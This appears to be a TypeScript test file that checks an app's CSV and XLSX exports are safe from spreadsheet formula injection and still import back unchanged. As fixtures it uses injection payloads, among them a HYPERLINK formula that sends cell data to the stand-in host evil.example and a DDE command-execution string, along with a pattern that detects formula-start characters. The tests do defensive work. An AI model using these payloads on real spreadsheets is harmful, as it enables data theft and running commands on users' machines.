import ExcelJS from "exceljs";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseCsv } from "../app/domain/csv";
import { brusselsMonthOf } from "../app/domain/time/brussels";
import type { RunningWebServer } from "../app/server/web.server";
import type { AppContext } from "../app/services/context.server";
import { exportQuestionsJson, importQuestions } from "../app/services/questions.server";
import { importPlan, readPlanFile } from "../app/services/spreadsheet.server";
import { startConversation } from "../db/repositories/inbox";
import type { User } from "../db/schema";
import { makeItem, makePasswordUser } from "./factories";
import { makeApiChannel, makeDueNow, makeScheduledItems, publishUntilSettled } from "./publishing-factories";
import { createTestDatabase, testContext, type TestDatabase } from "./setup/database";
import { signedInClient, startTestServer } from "./setup/web";

/**
 * Citizens' and editors' words that a spreadsheet would run as formulas, through every CSV that
 * Cadence writes (plan, archive, questions, coverage), read as a spreadsheet reads them, and back.
 */
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "+32 2 572 57 57", "-10 % sur la taxe", "@MyMinfin répond", "=cmd|' /C calc'!A0", "'=2+2"];
const FORMULA_START = /^[\s]*[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;

let t: TestDatabase;
let ctx: AppContext;
let server: RunningWebServer;
let admin: User;
let editor: User;
let publishedMonth: string;

beforeAll(async () => {
  t = await createTestDatabase();
  ctx = testContext(t.db);
  admin = await makePasswordUser(ctx, { email: "admin@test.be", displayName: "=cmd|' /C calc'!A0", roles: ["admin"] });
  editor = await makePasswordUser(ctx, { email: "editor@test.be", displayName: "Editor", roles: ["editor"] });
  const approver = await makePasswordUser(ctx, { email: "approver@test.be", displayName: "Approver", roles: ["approver"] });
  const fr = await makeApiChannel(ctx, "outbox", "fr", null, {});
  const nl = await makeApiChannel(ctx, "outbox", "nl", null, {});
  for (const [i, text] of HOSTILE.entries()) await makeItem(t.db, editor, { localDate: `2030-06-0${i + 1}`, localTime: "09:00", fr: text, nl: `${text} (nl)`, channelIds: [fr.id, nl.id] });
  const published = await makeScheduledItems(t.db, editor, approver, [fr, nl], { count: 1, localDate: "2030-03-04", texts: { fr: HOSTILE[0]!, nl: HOSTILE[3]! } });
  await makeDueNow(t.db, published);
  await publishUntilSettled(ctx, published);
  const at = await t.db.selectFrom("publications").select("published_at").where("content_item_id", "in", published).executeTakeFirstOrThrow();
  publishedMonth = brusselsMonthOf(at.published_at!);
  const questions = [
    { slug: "refund-when", fr: HOSTILE[0]!, nl: HOSTILE[2]!, keywords_fr: ["=remboursement", "@itsme"], keywords_nl: ["+terugbetaling"], volume: 1800 },
    { slug: "ebox", fr: "Qu'est-ce que l'eBox ?", nl: "Wat is de eBox?", keywords_fr: ["ebox"], keywords_nl: ["ebox"], volume: 10 },
  ];
  expect(await importQuestions(ctx, admin, { format: "json", content: JSON.stringify(questions) })).toMatchObject({ ok: true });
  server = await startTestServer(ctx);
});
afterAll(async () => {
  await server?.close();
  await t?.drop();
});

/** Every cell exactly as a spreadsheet reads it from the file: nothing restored. */
function cellsAsSpreadsheetReads(text: string, separator: "," | ";"): string[] {
  return Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { delimiter: separator, skipEmptyLines: true }).data.flat();
}

function expectNoFormula(text: string, separator: "," | ";", hostileCount: number) {
  const cells = cellsAsSpreadsheetReads(text, separator);
  expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
  expect(cells.filter((c) => c.startsWith("'")).length).toBeGreaterThanOrEqual(hostileCount);
}

describe("every CSV Cadence writes is safe to open in a spreadsheet", () => {
  it("the month's plan: no cell starts a formula, and the file imports back unchanged", async () => {
    const client = await signedInClient(server.url, "editor@test.be", "correct horse battery");
    for (const [sep, query] of [[",", ""], [";", "&sep=semicolon"]] as const) {
      const csv = await client.request(`/plan/export?month=2030-06&format=csv${query}`);
      expect(csv.status).toBe(200);
      expectNoFormula(csv.text, sep, HOSTILE.length * 2);
      const grid = (await readPlanFile("plan.csv", Buffer.from(csv.text, "utf8")))!;
      const header = grid[0]!;
      expect(grid.slice(1).map((r) => r[header.indexOf("fr_text")])).toEqual(HOSTILE);
      const result = await importPlan(ctx, editor, grid, { commit: false });
      expect(result.ok && result.changes.map((c) => c.action)).toEqual(HOSTILE.map(() => "unchanged"));
    }
  });

  it("the month's plan as .xlsx: every cell is a string, none a formula, and it imports back unchanged", async () => {
    const client = await signedInClient(server.url, "editor@test.be", "correct horse battery");
    const response = await fetch(`${server.url}/plan/export?month=2030-06&format=xlsx`, { headers: { cookie: `cadence_session=${client.cookie("cadence_session")!}` } });
    expect(response.status).toBe(200);
    const bytes = Buffer.from(await response.arrayBuffer());
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const types = new Set<number>();
    workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => types.add(cell.type)));
    expect([...types]).toEqual([ExcelJS.ValueType.String]);
    const grid = (await readPlanFile("plan.xlsx", bytes))!;
    expect(grid.slice(1).map((r) => r[grid[0]!.indexOf("fr_text")])).toEqual(HOSTILE);
    const result = await importPlan(ctx, editor, grid, { commit: false });
    expect(result.ok && result.changes.map((c) => c.action)).toEqual(HOSTILE.map(() => "unchanged"));
  });

  it("the archive: the exact text sent is kept, behind an apostrophe in the file only", async () => {
    const client = await signedInClient(server.url, "admin@test.be", "correct horse battery");
    const csv = await client.request(`/archive/${publishedMonth}/export?format=csv&sep=semicolon`);
    expect(csv.status).toBe(200);
    expectNoFormula(csv.text, ";", 2);
    const lines = parseCsv(csv.text, ";");
    const sent = lines.slice(1).map((l) => l[lines[0]!.indexOf("sent_text")]);
    expect(sent.sort()).toEqual([HOSTILE[0], HOSTILE[3]].sort());
  });

  it("the month's answers to citizens: the exact text sent, behind an apostrophe in the file only; in the JSON as sent", async () => {
    const channel = await makeApiChannel(ctx, "mastodon", "fr", "http://127.0.0.1:9/mastodon", { accessToken: "x" });
    const responder = await makePasswordUser(ctx, { email: "responder@test.be", displayName: "@Responder", roles: ["responder"] });
    const sentAt = new Date(`${publishedMonth}-15T10:00:00Z`);
    const conversation = await startConversation(t.db, { channelId: channel.id, citizenHandle: "citizen@fake.social", language: "fr", at: sentAt, dueAt: sentAt, remoteId: "m-answer", text: "Bonjour" });
    const message = await t.db.selectFrom("inbox_messages").select("id").where("conversation_id", "=", conversation.id).executeTakeFirstOrThrow();
    await t.db.insertInto("inbox_replies").values({ conversation_id: conversation.id, message_id: message.id, author_id: responder.id, text: HOSTILE[0]!, state: "sent", sent_at: sentAt, remote_id: "r-1" }).execute();
    const client = await signedInClient(server.url, "admin@test.be", "correct horse battery");
    const csv = await client.request(`/archive/${publishedMonth}/export?format=csv&part=answers`);
    expect(csv.status).toBe(200);
    expectNoFormula(csv.text, ",", 2);
    const lines = parseCsv(csv.text, ",");
    expect(lines.slice(1).map((l) => [l[lines[0]!.indexOf("text")], l[lines[0]!.indexOf("author")]])).toEqual([[HOSTILE[0], "@Responder"]]);
    const json = JSON.parse((await client.request(`/archive/${publishedMonth}/export?format=json`)).text) as { answerCount: number; answers: { text: string; channel: { name: string } }[] };
    expect(json.answerCount).toBe(1);
    expect(json.answers[0]).toMatchObject({ text: HOSTILE[0], channel: { name: channel.name } });
  });

  it("the questions: the list's CSV imports back to the same list; the coverage report's CSV runs nothing", async () => {
    const client = await signedInClient(server.url, "admin@test.be", "correct horse battery");
    const before = await exportQuestionsJson(ctx);
    const list = await client.request("/questions/export?format=csv&sep=semicolon");
    expectNoFormula(list.text, ";", 3);
    expect(await importQuestions(ctx, admin, { format: "csv", content: list.text })).toEqual({ ok: true, created: 0, updated: 2 });
    expect(await exportQuestionsJson(ctx)).toBe(before);

    const coverage = await client.request("/reports/questions/2030-06/export");
    expect(coverage.status).toBe(200);
    expectNoFormula(coverage.text, ",", 2);
    expect(parseCsv(coverage.text).some((r) => r.includes(HOSTILE[0]!))).toBe(true);
  });
});
